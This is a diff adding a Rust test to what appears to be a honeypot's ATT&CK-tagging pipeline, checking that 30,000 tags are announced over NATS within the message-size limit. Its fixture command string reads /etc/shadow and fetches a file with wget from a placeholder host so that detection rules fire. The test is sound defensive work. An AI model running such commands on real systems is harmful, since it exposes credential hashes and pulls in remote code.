@@ -332,3 +332,64 @@ fn a_store_that_cannot_be_written_holds_the_batch_unacked_and_resumes() {
     }
     worker.stop();
 }
+
+/// One session giving 30,000 new tags: far over the server's `max_payload` as one
+/// `ttp.tagged` (about 1.1 MB of UUIDs alone), so it is announced in several, each within
+/// the limit, that together name every stored row exactly once; so are its `ttp.rule.fired`.
+#[test]
+fn thirty_thousand_tags_of_one_event_are_all_announced_within_the_bus_limit() {
+    let server = NatsServer::start();
+    let dir = tempfile::tempdir().unwrap();
+    let db = dir.path().join("ttp.db");
+    let listener = server.client();
+    let announcements = listener.subscribe("ttp.>").unwrap();
+    listener.flush().unwrap();
+    let worker = start_pipeline(&server, false, &db, &EngineOptions::default());
+    thread::sleep(Duration::from_millis(200));
+
+    // Three built-in rules fire on each command (T1003, T1105, T1082).
+    let commands: Vec<Value> = (0..10_000)
+        .map(|i| json!({"id": format!("big#{i}"), "command_text": "cat /etc/shadow;wget http://x/a;uname -a"}))
+        .collect();
+    let body = envelope_body(
+        "attacker.session.ended",
+        "session.ended",
+        json!({"session_id": "big", "attacker_uuid": "6f1c2a9e-0000-4000-8000-0000000000aa",
+               "decky_id": "omega-decky", "commands": commands}),
+    );
+    let client = server.client();
+    let limit = client.max_payload();
+    assert!(body.len() < limit);
+    client.publish("attacker.session.ended", &body).unwrap();
+    client.flush().unwrap();
+    worker.wait_processed(1);
+
+    let stored = stored_rows(&db);
+    assert_eq!(stored.len(), 30_000);
+    let mut tagged = Vec::new();
+    let mut fired = Vec::new();
+    let deadline = Instant::now() + PATIENCE;
+    while (tagged.len() < 30_000 || fired.len() < 30_000) && Instant::now() < deadline {
+        let Ok(message) = announcements.next_timeout(Duration::from_secs(1)) else {
+            continue;
+        };
+        assert!(message.data.len() <= limit, "{} bytes", message.data.len());
+        let envelope: Value = serde_json::from_slice(&message.data).unwrap();
+        let payload = &envelope["payload"];
+        let uuids: Vec<String> = serde_json::from_value(payload["tag_uuids"].clone()).unwrap();
+        if message.subject == "ttp.tagged" {
+            assert_eq!(payload["tags"].as_array().unwrap().len(), uuids.len());
+            assert_eq!(payload["session_id"], "big");
+            tagged.extend(uuids);
+        } else {
+            fired.extend(uuids);
+        }
+    }
+    let distinct: BTreeSet<&String> = tagged.iter().collect();
+    assert_eq!(tagged.len(), 30_000, "each tag announced once");
+    assert_eq!(distinct, stored.keys().collect::<BTreeSet<_>>());
+    let fired: BTreeSet<&String> = fired.iter().collect();
+    assert_eq!(fired, distinct);
+    assert_eq!(Counters::get(&worker.counters.publish_errors), 0);
+    worker.stop();
+}
